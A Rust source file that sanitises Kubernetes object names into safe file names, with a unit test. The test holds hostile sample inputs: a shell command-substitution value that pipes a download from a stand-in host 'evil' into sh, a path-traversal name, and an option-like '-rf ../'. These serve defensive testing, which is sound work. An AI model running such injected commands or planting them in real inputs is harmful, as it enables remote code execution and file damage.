//! Files for others: their names, and what must stay out of snapshots.

pub mod redact;

/// Longer than names of Kubernetes, and shorter than file systems allow with an ending.
const LONGEST: usize = 200;

/// `pod-db-0`: how files about a decision on an object begin. Of a name that the API server would refuse, only what is safe in
/// paths and shells: whoever replays a recording did not choose the name.
pub fn file_name(kind: &str, name: &str) -> String {
    let is_safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-');
    let text = format!("{}-{}", kind.to_lowercase(), name.trim_end_matches('-'));
    let safe = text.chars().map(|c| if is_safe(c) { c } else { '_' });
    // A leading dot or dash would hide the file, or be an option.
    safe.take(LONGEST).collect::<String>().trim_start_matches(['.', '-']).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_names_are_safe_in_paths_and_shells() {
        let check = |kind: &str, name: &str, expected: &str| assert_eq!(file_name(kind, name), expected);
        check("Pod", "db-0", "pod-db-0");
        check("Pod", "web-", "pod-web");
        check("Pod", "x$(curl evil|sh)", "pod-x__curl_evil_sh_");
        check("Pod", "a/../../x\ny", "pod-a_.._.._x_y");
        check("-rf ../", "é", "rf_.._-_");
        assert_eq!(file_name("Pod", &"x".repeat(10_000)).len(), LONGEST);
    }
}
